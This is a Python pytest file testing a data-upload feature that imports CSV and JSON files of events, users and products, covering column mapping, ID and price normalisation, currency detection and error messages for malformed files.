def test_constant_fills_a_required_field_for_every_row(tmp_store):
    data = b"InvoiceNo,CustomerID,InvoiceDate,Revenue\n536365,17850.0,2010-12-01 08:26:00,15.30\n536366,13047.0,2010-12-01 08:28:00,22.00\n"
    report = upload(tmp_store, "events", data, constants={"event_name": "purchase"}, mapping={"InvoiceNo": "session_id"})
    assert report.inserted == 2
    assert rows(tmp_store, "SELECT user_id, session_id, event_name, revenue FROM events ORDER BY ts") == [
        ("17850", "536365", "purchase", 15.3),
        ("13047", "536366", "purchase", 22.0),
    ]


def test_spreadsheet_float_ids_become_whole_ids_only_when_the_whole_column_is_so(tmp_store):
    plan = plan_for(tmp_store, "users", b"user_id,country\n17850.0,UK\n13047.0,UK\n")
    assert plan.valid["user_id"].tolist() == ["17850", "13047"]
    mixed = plan_for(tmp_store, "users", b"user_id,country\n17850.0,UK\nA-1,UK\n")
    assert mixed.valid["user_id"].tolist() == ["17850.0", "A-1"]


def test_float_ids_from_json_become_whole_ids(tmp_store):
    plan = prepare(tmp_store, read_upload("u.json", b'[{"user_id": 17850.0}, {"user_id": 13047}]'), "users")
    assert plan.valid["user_id"].tolist() == ["17850", "13047"]


@pytest.mark.parametrize(
    "price, value, currency",
    [("$1,299.00", 1299.0, "USD"), ("12,50", 12.5, None), ("€ 30", 30.0, "EUR"), ("£7.5", 7.5, "GBP"), ("1,299", 1299.0, None), ("19.99 USD", 19.99, None)],
)
def test_price_text_is_read_and_currency_taken_from_the_symbol(tmp_store, price, value, currency):
    data = pd.DataFrame({"product_id": ["P1"], "title": ["Tent"], "price": [price]}).to_csv(index=False).encode()
    upload(tmp_store, "products", data)
    assert rows(tmp_store, "SELECT price, currency FROM products") == [(value, currency)]


def test_currency_column_wins_over_the_symbol(tmp_store):
    upload(tmp_store, "products", b'product_id,title,price,currency\nP1,Tent,"$1,299.00",CAD\n')
    assert rows(tmp_store, "SELECT price, currency FROM products") == [(1299.0, "CAD")]


def test_unmapped_product_columns_are_kept_as_attributes(tmp_store):
    upload(tmp_store, "products", b"product_id,title,Color,Capacity ml,empty\nP1,Bottle,blue,750,\n")
    (attributes,) = rows(tmp_store, "SELECT attributes FROM products")[0]
    assert json.loads(attributes) == {"Color": "blue", "Capacity ml": "750"}


def test_resolve_mapping_checks_the_users_choice_against_the_file():
    frame = read_upload("e.csv", RETAILROCKET_CSV).frame
    mapping = resolve_mapping(frame, "events", {"transactionid": "session_id"})
    assert mapping["transactionid"] == "session_id" and mapping["visitorid"] == "user_id"


def test_a_file_read_as_one_column_says_its_delimiter_was_not_found(tmp_store):
    with pytest.raises(MappingError) as info:
        upload(tmp_store, "events", b"user id date event\nu1 2026-01-01\n")
    assert info.value.title == "Columns not found"
    assert info.value.msg.startswith("The file was read as one column named 'user id date event'")


def test_space_aligned_order_export_imports_with_its_revenue(tmp_store):
    data = b"customer   date       amount\n  00001   1997-01-01   11.77\n  00002   1997-01-12   77.00\n  00002   1997-01-12   12.00\n"
    report = upload(tmp_store, "events", data, name="cdnow.txt",
                    mapping={"customer": "user_id", "date": "ts", "amount": "revenue"}, constants={"event_name": "purchase"})
    assert report.totals["stored"] == {"rows": 3, "users": 2, "purchases": 3, "returns": 0, "revenue": 100.77}


def test_a_missing_column_hint_is_about_that_column(tmp_store):
    with pytest.raises(MappingError) as info:
        upload(tmp_store, "products", b"product_id,price\nP1,3\n")
    assert "'title'" in info.value.msg and "orders" not in info.value.msg
    with pytest.raises(MappingError) as info:
        upload(tmp_store, "events", b"user_id,ts\nU1,2026-01-01\n")
    assert "every row is a purchase" in info.value.msg
